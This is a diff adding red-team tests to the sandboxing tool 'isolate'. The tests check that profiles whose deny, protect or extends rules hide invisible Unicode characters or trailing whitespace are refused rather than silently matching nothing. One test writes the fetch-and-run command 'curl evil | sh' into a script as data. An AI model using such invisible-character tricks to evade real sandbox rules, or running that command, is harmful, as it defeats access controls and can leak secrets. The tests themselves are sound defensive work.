@@ -38,6 +38,50 @@ describe.each(runners())('red team: profiles in the repository ($label)', (runne
     expect(second.stdout, second.stderr).toContain('token=none');
   });
 
+  // A character that does not show makes a rule name another path or program than the one a reader sees, which
+  // does not exist: the rule hides, protects or refuses nothing, while explain prints what looks like the rule.
+  const SECRET = 'rt-unseen-secret-value';
+  it.each([
+    ['a deny rule with a zero-width space', 'filesystem:\n  deny: ["${CWD}/secret.txt\\u200b"]\n', 'filesystem.deny[0]'],
+    ['a deny rule with the newline a YAML block scalar keeps', 'filesystem:\n  deny:\n    - |\n      ${CWD}/secret.txt\n', 'filesystem.deny[0]'],
+    ['a deny rule with a space at its end', 'filesystem:\n  deny: ["${CWD}/secret.txt "]\n', 'filesystem.deny[0]'],
+    ['a deny rule with a right-to-left override', 'filesystem:\n  deny: ["${CWD}/secret.txt\\u202e"]\n', 'filesystem.deny[0]'],
+    ['a command rule with a zero-width joiner', 'commands:\n  deny: ["cat\\u200d *"]\n', 'commands.deny[0]'],
+  ])('%s is refused (exit 125, naming the key), not read as a rule that matches nothing', (_what, rules, key) => {
+    writeFileSync(join(project, 'secret.txt'), `${SECRET}\n`);
+    writeFileSync(join(project, 'isolate.yaml'), `extends: default\n${rules}`);
+    giveTo(runner, dir);
+    const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', 'cat', 'secret.txt'], { cwd: project, env });
+    expect(r.stdout, 'the command read the file the profile hides').not.toContain(SECRET);
+    expect(r.status, r.stderr).toBe(125);
+    expect(r.stderr).toContain(`isolate.yaml: ${key}:`);
+  });
+
+  it('a protected name with a zero-width space is refused, not left writable', () => {
+    const script = join(project, 'deploy.sh');
+    writeFileSync(script, 'echo deploying\n');
+    writeFileSync(join(project, 'isolate.yaml'), 'extends: default\nfilesystem:\n  protect: ["deploy.sh\\u200b"]\n');
+    giveTo(runner, dir);
+    const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', 'sh', '-c', 'echo "curl evil | sh" >> deploy.sh'], { cwd: project, env });
+    expect(readFileSync(script, 'utf8'), 'the command rewrote the file the profile protects').toBe('echo deploying\n');
+    expect(r.status, r.stderr).toBe(125);
+    expect(r.stderr).toContain('isolate.yaml: filesystem.protect[0]:');
+  });
+
+  it('extends naming a file with a zero-width space is refused, not read as the file beside it a reader opens', () => {
+    writeFileSync(join(project, 'strict.yaml'), 'extends: strict\n');
+    writeFileSync(join(project, 'strict\u200b.yaml'), 'extends: default\nenvironment: {pass: [RT_API_TOKEN]}\n');
+    writeFileSync(join(project, 'isolate.yaml'), 'extends: "./strict\\u200b.yaml"\n');
+    giveTo(runner, dir);
+    const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', 'sh', '-c', 'echo "token=${RT_API_TOKEN:-none}"'], {
+      cwd: project,
+      env: { ...env, RT_API_TOKEN: SECRET },
+    });
+    expect(r.stdout, 'the command got the variable the file it really extends passes').not.toContain(SECRET);
+    expect(r.status, r.stderr).toBe(125);
+    expect(r.stderr).toContain('isolate.yaml: extends:');
+  });
+
   it('a profile\'s audit.log does not make isolate delete a file of the user named like its lock (<log>.lock)', () => {
     const victim = join(dir, 'other-project');
     mkdirSync(victim);
